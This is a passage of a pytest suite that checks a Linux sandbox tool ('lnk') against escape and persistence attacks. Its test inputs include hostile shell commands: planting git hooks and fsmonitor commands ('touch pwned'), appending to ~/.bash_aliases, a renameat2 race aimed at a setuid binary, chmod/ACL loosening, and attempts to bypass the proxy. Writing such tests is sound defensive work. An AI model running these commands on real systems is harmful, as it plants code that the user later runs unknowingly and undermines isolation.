    "symlink": 'os.symlink(P, W + "/l"); c(W + "/l")',
    "dotdot": 'c(W + "/../" + os.path.relpath(P, os.path.dirname(W)))',
    "proc-fd-opath": 'c("/proc/self/fd/%d" % os.open(P, os.O_PATH))',
    "dev-fd-opath": 'c("/dev/fd/%d" % os.open(P, os.O_PATH))',
    "dgram": 'c(P, socket.SOCK_DGRAM)',
    "seqpacket": 'c(P, socket.SOCK_SEQPACKET)',
}


@pytest.mark.parametrize("grant", ["--read", "--write"])
@pytest.mark.parametrize("way", sorted(CONNECT_WAYS))
def test_host_unix_socket_unreachable_every_way(lnk, home, work, tmp_path,
                                                grant, way):
    """Threat: a host daemon's socket (gpg-agent, docker) in a granted
    folder, reached by path, symlink, "..", or an O_PATH descriptor."""
    d = home / "gnupg"
    d.mkdir()
    srvs, paths = [], {}
    for typ in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        p = d / f"S.agent.{int(typ)}"
        s = socket.socket(socket.AF_UNIX, typ)
        s.bind(str(p))
        os.chmod(p, 0o777)
        if typ != socket.SOCK_DGRAM:
            s.listen(4)
        srvs.append(s)
        paths[int(typ)] = str(p)
    code = f"""
        import os, socket
        W = {str(work)!r}
        PATHS = {paths!r}
        P = PATHS[int(socket.SOCK_STREAM)]
        def c(path, typ=socket.SOCK_STREAM):
            global P
            if typ != socket.SOCK_STREAM and path == P:
                path = PATHS[int(typ)]
            s = socket.socket(socket.AF_UNIX, typ)
            s.connect(path)
            print("CONNECTED")
        try:
            {CONNECT_WAYS[way]}
        except OSError as e:
            print("refused", e.errno)
    """
    try:
        cp = py(lnk, code, grant, home, "--write", work)
    finally:
        for s in srvs:
            s.close()
    assert "CONNECTED" not in cp.stdout, cp.stdout + cp.stderr
    assert "refused" in cp.stdout, cp.stdout + cp.stderr


@pytest.mark.parametrize("where", ["write", "tmp"])
def test_unix_sockets_made_inside_still_answer(lnk, work, where):
    """What must keep working: a server and client inside the sandbox, on
    a socket in the write folder or in its /tmp, by path, relative path,
    symlink and O_PATH descriptor; stream, datagram and abstract."""
    code = textwrap.dedent("""
        import os, socket, sys, threading
        base = os.getcwd() if sys.argv[1] == "write" else "/tmp"
        p = base + "/srv.sock"
        srv = socket.socket(socket.AF_UNIX)
        srv.bind(p); srv.listen(8)
        def serve():
            while True:
                c, _ = srv.accept(); c.sendall(c.recv(100).upper()); c.close()
        threading.Thread(target=serve, daemon=True).start()
        def ask(path):
            c = socket.socket(socket.AF_UNIX); c.connect(path)
            c.sendall(b"ping"); r = c.recv(100); c.close(); return r
        os.symlink(p, base + "/link.sock")
        os.chdir(base)
        print(ask(p), ask("srv.sock"), ask(base + "/link.sock"),
              ask("/proc/self/fd/%d" % os.open(p, os.O_PATH)))
        d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        d.bind(base + "/dg.sock")
        e = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        e.connect(base + "/dg.sock"); e.send(b"dgram"); print(d.recv(10))
        a = socket.socket(socket.AF_UNIX); a.bind(b"\\0lnk-abstract"); a.listen(1)
        b = socket.socket(socket.AF_UNIX); b.connect(b"\\0lnk-abstract")
        print("abstract", a.accept()[0] is not None)
        t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(1)
        u = socket.create_connection(t.getsockname()); print("tcp ok")
    """)
    # with only a read grant the guard runs for connect() alone
    grant = "--write" if where == "write" else "--read"
    cp = lnk.run(grant, work, "--", PY, "-c", code, where, timeout=60)
    assert cp.returncode == 0, cp.stdout + cp.stderr
    assert "b'PING' b'PING' b'PING' b'PING'" in cp.stdout, cp.stdout
    assert "b'dgram'" in cp.stdout and "abstract True" in cp.stdout
    assert "tcp ok" in cp.stdout


def test_link_source_swap_never_links_a_setuid_program(lnk, work):
    """Threat: the guard checked a link's source by descriptor, then
    linked it again by name; a thread exchanging the name with a setuid
    program in between gave that program a new name (found 3 times in 10 s
    before the guard linked by the descriptor it checked)."""
    (work / "a").write_text("ordinary\n")
    shutil.copy("/bin/true", work / "s")
    os.chmod(work / "s", 0o4755)
    cp = py(lnk, """
        import ctypes, os, threading, time
        libc = ctypes.CDLL(None, use_errno=True)
        stop = False
        def flip():
            while not stop:
                libc.renameat2(-100, b"a", -100, b"s", 2)  # EXCHANGE
        threading.Thread(target=flip, daemon=True).start()
        n, end = 0, time.monotonic() + 8
        while time.monotonic() < end:
            try:
                os.link("a", "l%d" % n); n += 1
            except OSError:
                pass
        stop = True
        print("links", n)
    """, "--write", work, timeout=120)
    assert cp.returncode == 0, cp.stdout + cp.stderr
    bad = [p.name for p in work.iterdir()
           if p.name.startswith("l") and p.stat().st_mode & 0o6000]
    assert bad == [], (bad, cp.stdout)
    assert "links" in cp.stdout


def test_host_unix_socket_unreachable_without_dot_guard(lnk, home):
    """Threat: with --write-dot-files lifting the dot-file guard, the
    supervisor runs for connect() alone; a host daemon's socket in the
    granted folder must still not answer, and sockets made inside must."""
    path = home / "S.gpg-agent"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(path))
    os.chmod(path, 0o777)
    srv.listen(4)
    try:
        cp = py(lnk, f"""
            import os, socket
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect({str(path)!r}); print("CONNECTED")
            except OSError as e:
                print("refused", e.errno)
            m = socket.socket(socket.AF_UNIX); m.bind("mine.sock"); m.listen(1)
            c = socket.socket(socket.AF_UNIX); c.connect("mine.sock")
            print("mine", m.accept()[0] is not None)
        """, "--write", home, "--write-dot-files", home, cwd=home)
    finally:
        srv.close()
    assert "CONNECTED" not in cp.stdout, cp.stdout + cp.stderr
    assert "refused 13" in cp.stdout and "mine True" in cp.stdout, \
        cp.stdout + cp.stderr


def test_inherited_host_socket_reaches_no_host_abstract_socket(lnk, work):
    """Threat: a unix datagram socket inherited from the host (stdin)
    connected by the guard to an abstract name: the name is looked up in
    the host's network namespace (a D-Bus or X11 abstract socket), which
    the program's own Landlock scope refuses natively."""
    name = b"\0lnk-e2e-abstract-%d" % os.getpid()
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    srv.bind(name)
    srv.settimeout(0.5)
    inherited = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        cp = py(lnk, f"""
            import os, socket
            s = socket.socket(fileno=os.dup(0))
            try:
                s.connect({name!r}); s.send(b"hi"); print("CONNECTED")
            except OSError as e:
                print("refused", e.errno)
        """, "--read", work, stdin=inherited.fileno())
        try:
            got = srv.recv(10)
        except OSError:
            got = None
    finally:
        srv.close()
        inherited.close()
    assert "CONNECTED" not in cp.stdout and got is None, cp.stdout
    assert "refused 1" in cp.stdout, cp.stdout + cp.stderr


def test_host_stdin_file_not_linked_into_write_folder(lnk, work, tmp_path):
    """Threat: the host file given as stdin given a name in the write
    folder (linkat AT_EMPTY_PATH, or /proc/self/fd/0 followed), where the
    program could then open it for writing by that name."""
    deploy = tmp_path / "deploy.sh"
    deploy.write_text("echo deploying\n")
    with open(deploy, "rb") as stdin:
        cp = py(lnk, """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            r = libc.linkat(0, b"", -100, b"stolen1", 0x1000)
            print("empty-path", r, ctypes.get_errno())
            for via in ("/proc/self/fd/0", "/dev/stdin", "/dev/fd/0"):
                try:
                    os.link(via, "stolen2", follow_symlinks=True)
                    print("LINKED", via)
                except OSError as e:
                    print("refused", via, e.errno)
        """, "--write", work, stdin=stdin)
    assert not (work / "stolen1").exists() and not (work / "stolen2").exists()
    assert "LINKED" not in cp.stdout and "empty-path -1" in cp.stdout, \
        cp.stdout + cp.stderr
    assert deploy.stat().st_nlink == 1

# --- what runs outside later: the write guard's classes ---
#
# Protection by a list of names at the top kept missing things; these
# attacks each plant something a program on the host later runs or trusts,
# by class: a folder git (or another VCS) would use, every repository the
# top one knows, the folders and files a repository's config names, the
# home folder's top, a protected link's target chain, the folders holding
# a hidden one.

def git(*args, cwd=None, check=True):
    env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent",
           "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "t",
           "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t", "LANG": "C"}
    return subprocess.run(["git", "-c", "safe.directory=*", *map(str, args)],
                          cwd=cwd, env=env, capture_output=True, text=True,
                          check=check)


def test_write_top_never_becomes_a_git_directory(lnk, work):
    """Threat: `git init --bare .` at the top; the user's next git there runs
    core.fsmonitor. HEAD, objects, refs, config are not dot files."""
    cp = sh(lnk, "git init -q --bare . ; git config core.bare false; "
                 "echo 'ref: refs/heads/main' > HEAD; ln -s x HEAD; true",
            "--write", work)
    assert not (work / "HEAD").exists() and not (work / "HEAD").is_symlink(), \
        cp.stderr
    r = subprocess.run(["git", "-c", "safe.directory=*", "rev-parse",
                        "--absolute-git-dir"], cwd=work,
                       env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent",
                            "GIT_CEILING_DIRECTORIES": str(work.parent)},
                       capture_output=True, text=True)
    assert r.returncode != 0, r.stdout


def test_bare_repository_at_top_protected_like_dot_git(lnk, work):
    """Threat: the write folder IS a bare repository: rewrite its config,
    plant a hook, repoint HEAD."""
    git("init", "-q", "--bare", work)
    config = (work / "config").read_text()
    head = (work / "HEAD").read_text()
    cp = sh(lnk, "git config core.fsmonitor 'touch pwned'; "
                 "echo '[core] fsmonitor = x' >> config; "
                 "printf '#!/bin/sh\\n' > hooks/pre-commit; "
                 "echo 'ref: refs/heads/evil' > HEAD; mv hooks hooks.old; "
                 "mv config config.old; true", "--write", work)
    assert (work / "config").read_text() == config, cp.stderr
    assert (work / "HEAD").read_text() == head
    assert not (work / "hooks" / "pre-commit").exists()
    assert not (work / "hooks.old").exists()
    assert not (work / "config.old").exists()


def make_repo_with_submodule(work, populated=True):
    git("init", "-q", work)
    (work / ".gitmodules").write_text(
        '[submodule "lib/sub"]\n\tpath = lib/sub\n\turl = ./up\n')
    (work / "lib" / "sub").mkdir(parents=True)
    git("init", "-q", "--bare", work / ".git" / "modules" / "lib" / "sub")
    git("config", "-f", work / ".git/modules/lib/sub/config",
        "core.worktree", "../../../../lib/sub")
    if populated:
        (work / "lib" / "sub" / ".git").write_text(
            "gitdir: ../../.git/modules/lib/sub\n")


@pytest.mark.parametrize("populated", [True, False])
def test_submodule_gitfile_cannot_point_elsewhere(lnk, work, populated):
    """Threat: copy the submodule's git dir, set core.fsmonitor there and
    point lib/sub/.git at the copy: the user's plain `git status` at the top
    recurses into it and runs the command."""
    make_repo_with_submodule(work, populated)
    before = (work / "lib/sub/.git").read_text() if populated else None
    cp = sh(lnk, """
        cd lib/sub
        git init -q --bare evil.git
        echo 'gitdir: evil.git' > .git
        rm -f .git; echo 'gitdir: evil.git' > .git
        cd ..; mv sub sub.old; mkdir -p sub; echo 'gitdir: x' > sub/.git
        mv ../lib ../lib2; true""", "--write", work)
    if populated:
        assert (work / "lib/sub/.git").read_text() == before, cp.stderr
    else:
        assert not (work / "lib/sub/.git").exists(), cp.stderr
    assert not (work / "lib/sub.old").exists()
    assert not (work / "lib2").exists()


def test_submodule_below_a_write_folder_in_a_repository(lnk, work):
    """Threat: only a subfolder of the repository is granted (--write
    lib); the submodule's .git file lies in it, and the repository's
    core.hooksPath names a folder in it."""
    make_repo_with_submodule(work)
    git("-C", work, "config", "core.hooksPath", "lib/hooks")
    before = (work / "lib/sub/.git").read_text()
    cp = sh(lnk, """
        echo 'gitdir: /tmp/evil.git' > sub/.git; mv sub sub.old
        mkdir -p hooks; printf '#!/bin/sh\\n' > hooks/pre-commit; true""",
            "--write", work / "lib", cwd=work / "lib")
    assert (work / "lib/sub/.git").read_text() == before, cp.stderr
    assert not (work / "lib/sub.old").exists()
    assert not (work / "lib/hooks/pre-commit").exists()


@pytest.mark.parametrize("version", ["2", "3", "4"])
def test_submodule_only_in_the_index_protected(lnk, work, version):
    """Threat: a gitlink the index records without a .gitmodules entry is
    still a submodule git status recurses into: repoint its .git."""
    git("init", "-q", work)
    for i in range(3):
        (work / f"f{i}").write_text("x\n")
        git("-C", work, "add", f"f{i}")
    git("-C", work, "update-index", "--add", "--cacheinfo",
        "160000,1111111111111111111111111111111111111111,deep/er/sub")
    git("-C", work, "update-index", "--index-version", version)
    if version == "3":  # an extended entry: intent to add
        (work / "n").write_text("n\n")
        git("-C", work, "add", "-N", "n")
    (work / "deep/er/sub").mkdir(parents=True)
    (work / "deep/er/sub/.git").write_text("gitdir: ../../../.git/x\n")
    cp = sh(lnk, "echo 'gitdir: /tmp/evil.git' > deep/er/sub/.git; "
                 "mv deep/er deep/er2; mv deep deep2; true", "--write", work)
    assert (work / "deep/er/sub/.git").read_text() == \
        "gitdir: ../../../.git/x\n", cp.stderr
    assert not (work / "deep2").exists()


def test_worktree_gitfile_protected(lnk, work):
    """Threat: a linked worktree's .git file, repointed to a git dir of the
    program's, is used by the user's next git there."""
    git("init", "-q", work)
    git("-C", work, "commit", "-q", "--allow-empty", "-m", "x")
    git("-C", work, "worktree", "add", "-q", work / "wt")
    before = (work / "wt" / ".git").read_text()
    cp = sh(lnk, "echo 'gitdir: /tmp' > wt/.git; mv wt wt.old; true",
            "--write", work)
    assert (work / "wt" / ".git").read_text() == before, cp.stderr
    assert not (work / "wt.old").exists()


@pytest.mark.parametrize("missing", [False, True])
def test_hooks_path_and_included_config_protected(lnk, work, missing):
    """Threat: .git/config sets core.hooksPath = .githooks (and includes
    a config from the project): plant a pre-commit hook there, or an
    fsmonitor in the included file."""
    git("init", "-q", work)
    git("-C", work, "config", "core.hooksPath", ".githooks")
    git("-C", work, "config", "include.path", "../project.gitconfig")
    git("-C", work, "config", "includeIf.onbranch:main.path",
        "../conf/branch.gitconfig")
    if not missing:
        (work / ".githooks").mkdir()
        (work / "project.gitconfig").write_text("[user]\n\tname = me\n")
        (work / "conf").mkdir()
        (work / "conf" / "branch.gitconfig").write_text("")
    cp = sh(lnk, """
        mkdir -p .githooks; printf '#!/bin/sh\\ntouch pwned\\n' > .githooks/pre-commit
        echo '[core] fsmonitor = touch pwned' >> project.gitconfig
        mkdir -p conf; echo '[core] fsmonitor = touch pwned' >> conf/branch.gitconfig
        mv conf conf.old; true""", "--write", work)
    assert not (work / ".githooks" / "pre-commit").exists(), cp.stderr
    for f in ("project.gitconfig", "conf/branch.gitconfig"):
        p = work / f
        assert not p.exists() or "fsmonitor" not in p.read_text(), f
    assert not (work / "conf.old").exists()


RUNS_OUTSIDE_NAMES = [
    "mise.toml", ".mise.toml", "mise.local.toml", ".mise.local.toml",
    ".mise", "lefthook.yml", ".lefthook.yml", "lefthook-local.yml",
    ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".hg", ".jj", ".sl", ".svn",
    ".bzr", ".envrc.local", ".env", ".dir-locals.el", ".exrc", ".nvim.lua",
    ".nvimrc", ".tool-versions", "_darcs", ".pijul", ".fslckout",
    "_FOSSIL_", ".dir-locals-2.el", ".lvimrc", ".lazy.lua", ".zed", ".helix",
    ".devcontainer.json", ".pdbrc", ".irbrc", ".pryrc", ".ghci", ".octaverc",
    "rust-toolchain", "rust-toolchain.toml", ".huskyrc", ".huskyrc.json",
    ".huskyrc.js", ".overcommit.yml"]


@pytest.mark.parametrize("name", RUNS_OUTSIDE_NAMES)
def test_more_names_that_run_outside_not_created(lnk, work, name):
    """Threat: mise, lefthook, yarn, pnpm, other VCS, direnv, editors run
    what these names hold when the user next works in the folder."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr


def test_yarn_release_protected(lnk, work):
    """Threat: .yarnrc.yml's yarnPath names .yarn/releases/yarn.cjs, which
    the user's next `yarn` runs: replace it; the install cache stays
    writable."""
    (work / ".yarnrc.yml").write_text("yarnPath: .yarn/releases/yarn.cjs\n")
    (work / ".yarn" / "releases").mkdir(parents=True)
    (work / ".yarn" / "releases" / "yarn.cjs").write_text("// yarn\n")
    cp = sh(lnk, "echo 'evil()' > .yarn/releases/yarn.cjs; "
                 "mv .yarn/releases .yarn/r2; mv .yarn .yarn2; "
                 "mkdir -p .yarn/plugins && echo x > .yarn/plugins/p.cjs; "
                 "mkdir -p .yarn/cache && echo ok > .yarn/cache/a.zip; true",
            "--write", work)
    assert (work / ".yarn/releases/yarn.cjs").read_text() == "// yarn\n", \
        cp.stderr
    assert not (work / ".yarn/plugins").exists()
    assert not (work / ".yarn2").exists()
    assert (work / ".yarn/cache/a.zip").read_text() == "ok\n"


HOME_NEW_NAMES = [".bash_aliases", ".vim", ".xsessionrc", ".xsession",
                  ".xinitrc", ".psqlrc", ".sqliterc", ".irbrc", ".ghci",
                  ".netrc", ".forward", ".muttrc", ".screenrc",
                  ".not-yet-invented-rc", "bin"]


@pytest.mark.parametrize("holds", [False, True])
@pytest.mark.parametrize("name", HOME_NEW_NAMES)
def test_home_top_keeps_every_dot_name(lnk, home, name, holds):
    """Threat: --write '~' (or a folder holding it) plants ~/.bash_aliases
    (sourced by Debian's .bashrc), ~/.vim/plugin/x.vim, ~/bin/ls (on PATH
    through Debian's .profile): no list of names is complete."""
    grant = home.parent if holds else home
    cp = sh(lnk, f"mkdir -p ~/{name}/plugin 2>/dev/null || "
                 f"echo evil > ~/{name}", "--write", grant)
    assert not (home / name).exists(), cp.stderr


def test_home_existing_dot_names_read_only(lnk, home):
    """Threat: append to an existing ~/.bash_aliases, or move it away and
    put another in its place."""
    f = home / ".bash_aliases"
    f.write_text("alias ll='ls -l'\n")
    (home / ".vim" / "plugin").mkdir(parents=True)
    cp = sh(lnk, "echo 'touch ~/pwned' >> ~/.bash_aliases; "
                 "echo x > ~/.vim/plugin/x.vim; mv ~/.vim ~/vim.old; "
                 "mv ~/.bash_aliases ~/ba; true", "--write", home)
    assert f.read_text() == "alias ll='ls -l'\n", cp.stderr
    assert not (home / ".vim" / "plugin" / "x.vim").exists()
    assert not (home / "vim.old").exists() and not (home / "ba").exists()


@pytest.mark.parametrize("dangling", [False, True])
def test_protected_link_target_chain_not_replaceable(lnk, work, dangling):
    """Threat: .envrc -> config/envrc (stow-style dotfiles): move config
    away, make a new one, and the host's .envrc runs the program's text."""
    (work / ".envrc").symlink_to("config/envrc")
    if not dangling:
        (work / "config").mkdir()
        (work / "config" / "envrc").write_text("export A=1\n")
    cp = sh(lnk, "mv config config.old; mkdir -p config; "
                 "echo 'echo PWNED' > config/envrc; true", "--write", work)
    if dangling:
        assert not (work / "config" / "envrc").exists(), cp.stderr
    else:
        assert (work / "config" / "envrc").read_text() == "export A=1\n", \
            cp.stderr
        assert not (work / "config.old").exists()


def test_folder_holding_a_hidden_folder_not_renamed(lnk, home):
    """Threat: with --write '~', `mv ~/Link ~/Link.moved; mkdir -p
    ~/Link/Agents`: the next sandbox hides the empty new folder and shows
    the host's agents' files at ~/Link.moved/Agents."""
    (home / "Link" / "Agents").mkdir(parents=True)
    (home / "Link" / "Agents" / "a").write_text("agent\n")
    cp = sh(lnk, "mv ~/Link ~/Link.moved; mkdir -p ~/Link/Agents; true",
            "--write", home)
    assert (home / "Link" / "Agents" / "a").exists(), cp.stderr
    assert not (home / "Link.moved").exists()


def test_home_not_renamed_under_a_grant_above_it(lnk, home):
    """Threat: a write grant above the home folder: rename the home away
    and make a new one; the next sandbox hides the new empty ~/.lnk and
    shows the real one (the log, the specs, the sockets) at the moved
    path."""
    lnk.run("--", "true", check=True)  # lnk makes its ~/.lnk
    cp = sh(lnk, f"mv {home} {home}.moved; mkdir -p {home}/.lnk; true",
            "--write", home.parent)
    assert not pathlib.Path(f"{home}.moved").exists(), cp.stderr
    assert (home / ".lnk").is_dir()


def test_folder_holding_a_hide_not_renamed(lnk, work):
    """Threat: --hide work/secret; rename work/outer (which holds it) and
    the next run with the same --hide shows the moved secret."""
    (work / "outer" / "secret").mkdir(parents=True)
    (work / "outer" / "secret" / "k").write_text("key\n")
    cp = sh(lnk, "mv outer outer2; mkdir -p outer/secret; true",
            "--write", work, "--hide", work / "outer" / "secret")
    assert (work / "outer" / "secret" / "k").exists(), cp.stderr
    assert not (work / "outer2").exists()


ACL_0777 = ("python3 -c 'import os; os.setxattr(\".\", "
            "\"system.posix_acl_access\", bytes.fromhex("
            "\"0200000001000700ffffffff04000700ffffffff"
            "20000700ffffffff\"))'")


def test_folder_holding_another_grant_not_renamed(lnk, home, work):
    """Threat: --write '~' --read ~/project/docs: move ~/project away and
    put a link at its place; the next run's --read ~/project/docs (or a
    --write of it) then names what the program chose."""
    (work / "docs").mkdir()
    cp = sh(lnk, "mv ~/project ~/p2; mkdir -p ~/project; true",
            "--write", home, "--read", work / "docs")
    assert (work / "docs").is_dir() and not (home / "p2").exists(), \
        cp.stderr


@pytest.mark.parametrize("how", [
    "chmod 0777 .", "chmod 0777 .git", "chmod 0777 lib", "chown 1:1 .",
    "chown -h 1:1 .", "chmod 0777 /proc/self/cwd", "chmod 0777 ../project",
    "python3 -c 'import os; os.chmod(os.open(\".\", os.O_RDONLY), 0o777)'",
    "python3 -c 'import os; os.chmod(\"\", 0o777, dir_fd=os.open(\".\","
    " os.O_PATH))' 2>/dev/null; python3 -c 'import os; "
    "os.chmod(os.open(\".\", os.O_PATH), 0o777)'",
    ACL_0777])
def test_write_top_mode_cannot_be_loosened(lnk, work, how):
    """Threat: `chmod 0777 .`, a new owner or an ACL on the top (or on a
    folder on the way to a protected entry): after the run any local
    account can plant what the guard refuses."""
    git("init", "-q", work)
    (work / "lib").mkdir()
    (work / ".envrc").symlink_to("lib/envrc")
    (work / "lib" / "envrc").write_text("")
    for p in (work, work / ".git", work / "lib"):
        os.chmod(p, 0o755)
    before = {p: p.stat() for p in (work, work / ".git", work / "lib")}
    cp = sh(lnk, f"{how}; true", "--write", work)
    for p, st in before.items():
        now = p.stat()
        assert (now.st_mode, now.st_uid, now.st_gid) == \
            (st.st_mode, st.st_uid, st.st_gid), (p, cp.stderr)
        assert "system.posix_acl_access" not in os.listxattr(p), p


def test_metadata_of_own_files_still_changes(lnk, work):
    """The guard refuses loosening what it protects, not chmod itself."""
    cp = sh(lnk, "touch f && chmod 0600 f && mkdir d && chmod 0700 d && "
                 "ln -s f l && chmod 0640 l && chown -h $(id -u) l && "
                 "python3 -c 'import os; os.setxattr(\"f\", \"user.a\", b\"1\")'"
                 " && echo ok", "--write", work)
    assert cp.stdout.strip() == "ok", cp.stderr
    assert (work / "f").stat().st_mode & 0o7777 == 0o640
    assert (work / "d").stat().st_mode & 0o7777 == 0o700
    assert os.getxattr(work / "f", "user.a") == b"1"


def test_refusal_message_escapes_hostile_names(lnk, home):
    """Threat: a refused name holding terminal escapes (a title, OSC 52,
    a C1 CSI) reaches the user's terminal through lnk's own message."""
    cp = py(lnk, r"""
        import os
        for n in ('.\x1b]0;pwned\x07', '.\xc2\x9b2J', '.a\u202ex'):
            try:
                open(os.path.expanduser('~/') + n, 'w')
            except OSError:
                pass
        """, "--write", home)
    assert "refused to create" in cp.stderr, cp.stderr
    assert "\x1b" not in cp.stderr and "\x07" not in cp.stderr
    assert "\u009b" not in cp.stderr and "\u202e" not in cp.stderr
    assert not [p for p in home.iterdir() if p.name.startswith(".a")]


# --- the command table: first steps done once, by main ---
# Every command the table marks as using ~/.lnk has it proved the user's by
# main() before its own code runs (src/cli/main.c), so a command added
# later cannot forget it.

# The commands that never read or write ~/.lnk.
_NO_SETTINGS = {"ready", "spec", "permissions"}


def _table_commands(lnk):
    cp = lnk("sandbox", "--help", check=True)
    names, listing = [], False
    for line in cp.stdout.splitlines():
        if line == "commands:":
            listing = True
        elif listing and line.startswith("  "):
            names.append(line.split()[0])
        elif listing:
            break
    return names


def test_every_command_using_settings_proves_them_first(lnk, home, tmp_path):
    """Threat: a command that opens the log, the registry or a control
    socket in a ~/.lnk someone else controls, because it parsed its
    arguments, or forgot the check, before proving ~/.lnk the user's.
    Every command in the table is tried, so a new one is too."""
    names = _table_commands(lnk)
    assert {"run", "enter", "pause", "stop"} <= set(names), names
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (home / ".lnk").symlink_to(elsewhere)
    for name in names:
        if name in _NO_SETTINGS:
            continue
        cp = lnk("sandbox", name)
        _settings_refused(lnk, cp, home / ".lnk")
        assert "symbolic link" in cp.stderr, (name, cp.stderr)
    assert list(elsewhere.iterdir()) == []

# --- a spec's limits and tripwires ---

SPEC_CALLER = r"""
import os, sys, urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler(
    {"http": os.environ.get("HTTP_PROXY") or os.environ["http_proxy"]}))
for url in sys.argv[1:]:
    try:
        opener.open(url, timeout=5).read()
    except Exception:
        pass
"""


def _user_settings(home, text):
    d = home / ".lnk" / "sandbox"
    d.mkdir(parents=True, exist_ok=True)
    (d / "settings.toml").write_text(text)


def test_spec_cannot_raise_the_task_limit(lnk, home, work):
    """Threat: a spec from a repository asks for 100000 tasks (or none) to
    fork the host out of processes; the user's settings say 32."""
    ready = json.loads(lnk("sandbox", "ready", "--json").stdout)
    (c,) = [c for c in ready["checks"] if c["check"] == "limits"]
    if "tasks and memory not limited" in c["detail"]:
        pytest.skip("nothing limits tasks here: " + c["detail"])
    _user_settings(home, "[limits]\ntasks = 32\n")
    f = work / "app.toml"
    for limits in ("tasks = 100000\n", "tasks = 0\n"):
        f.write_text('version = 1\n[commands]\nallow = ["python3"]\n'
                     "[limits]\n" + limits)
        cp = lnk.run("--spec", f, "--yes", "--", "python3", "-c",
                     FORKER, timeout=120)
        if limits == "tasks = 0\n":
            assert cp.returncode == 2, cp.stderr
            assert "0 would be no limit" in cp.stderr, cp.stderr
            continue
        assert cp.returncode == 0, cp.stderr
        made, failed = map(int, cp.stdout.split())
        assert made < 32 and failed > 60, cp.stdout


def test_spec_cannot_loosen_or_turn_off_tripwires(lnk, work):
    """Threat: a spec sets the tripwires so high (or to 0) that a program
    probing the network never pauses its wire, or turns off the metadata
    one. The default 30 still trips; metadata cannot be named."""
    f = work / "app.toml"
    (work / "caller.py").write_text(SPEC_CALLER)
    for trip in ("refused_calls = 1000000\n", "refused_calls = 0\n"):
        f.write_text('version = 1\n[files]\nwrite = ["."]\n'
                     '[internet]\nhosts = ["allowed.test"]\n'
                     '[commands]\nallow = ["python3"]\n'
                     "[tripwires]\n" + trip)
        cp = lnk("sandbox", "run", "--name", "trip-loose", "--spec", f,
                 "--yes", "--", "python3", f"{work}/caller.py",
                 *["http://denied.test/"] * 30, timeout=120,
                 stdin=subprocess.DEVNULL, cwd=work)
        assert "wire paused: too many calls refused" in cp.stderr, cp.stderr
    f.write_text('version = 1\n[tripwires]\nmetadata = false\n')
    cp = lnk.run("--spec", f, "--yes", "--", "/bin/true")
    assert cp.returncode == 2 and "unknown key 'metadata'" in cp.stderr, \
        cp.stderr


# --- transparent path ---
# Programs that ignore the proxy variables: the guard brings every TCP
# connect to the wire (src/guard/tproxy.c), the wire's resolver answers
# only for granted names (src/wire/dnsd.c). Each attack runs with the
# proxy variables removed, so nothing goes through them.

NOPROXY_ENV = ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy",
               "ALL_PROXY", "all_proxy")

TP_PRELUDE = """
import errno, os, socket, struct
for k in %r:
    os.environ.pop(k, None)
def tcp(fam, addr, wait=5):
    s = socket.socket(fam)
    s.settimeout(wait)
    try:
        s.connect(addr)
        s.sendall(b"GET /secret.txt HTTP/1.0\\r\\n\\r\\n")
        d = s.recv(200)
        return "CONNECTED " + repr(d)
    except OSError as e:
        return "refused " + str(e.errno)
    finally:
        s.close()
""" % (NOPROXY_ENV,)


def tp_net(lnk, code, *grants):
    f = nethosts()
    return py(lnk, TP_PRELUDE + textwrap.dedent(code), *grants, timeout=120,
              env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]}), f


def test_transparent_never_reaches_this_machine(lnk, recorder):
    """Threat: a program without proxy settings connects by address or by
    name to this machine (its own addresses, a local route, IPv4-mapped
    IPv6), its network, or a name that resolves there, under '*'."""
    f = nethosts()
    v4, v6 = int(socket.AF_INET), int(socket.AF_INET6)
    targets = [(v4, (a, recorder.port))
               for a in local_addresses() if not a.startswith("127.")]
    targets += [(v4, (f["ANYIP_IP"], 80)), (v4, (f["ROUTER_IP"], 80)),
                (v4, ("10.0.0.1", 80)),
                (v6, ("::ffff:" + f["HOST_SIDE_IP"], recorder.port)),
                (v6, ("::ffff:" + f["ANYIP_IP"], 80))]
    names = ["anyip.lnk-test", "self.lnk-test", "router.lnk-test",
             "private.lnk-test", "rebind.lnk-test", "mixed.lnk-test"]
    cp, _ = tp_net(lnk, f"""
        for fam, addr in {targets!r}:
            print(addr, tcp(fam, tuple(addr)))
        for n in {names!r}:
            try:
                a = socket.gethostbyname(n)
            except OSError as e:
                print(n, "noname"); continue
            print(n, a, tcp(socket.AF_INET, (a, 80)))
        print("origin", tcp(socket.AF_INET, ("origin.lnk-test", 80)))
    """, "--internet-host", "*")
    assert "origin CONNECTED" in cp.stdout, cp.stdout + cp.stderr
    assert cp.stdout.count("CONNECTED") == 1, cp.stdout
    assert "a server of this machine" not in cp.stdout
    for n in names:
        assert f"{n} noname" in cp.stdout, cp.stdout
    assert recorder.hits == []
    reasons = refused_reasons(lnk)
    assert reasons[f"{f['ANYIP_IP']}:80"] == "address of this machine"
    assert reasons["rebind.lnk-test"] != "", reasons


def test_forged_transparent_head_gains_nothing(lnk, recorder):
    """Threat: the program speaks to the transparent listener itself and
    names in the head what no grant reaches (this machine's loopback and
    addresses, an ungranted host), or sends heads of a wrong form."""
    import struct
    f = nethosts()
    def head(fam, addr, port):
        b = socket.inet_pton(fam, addr)
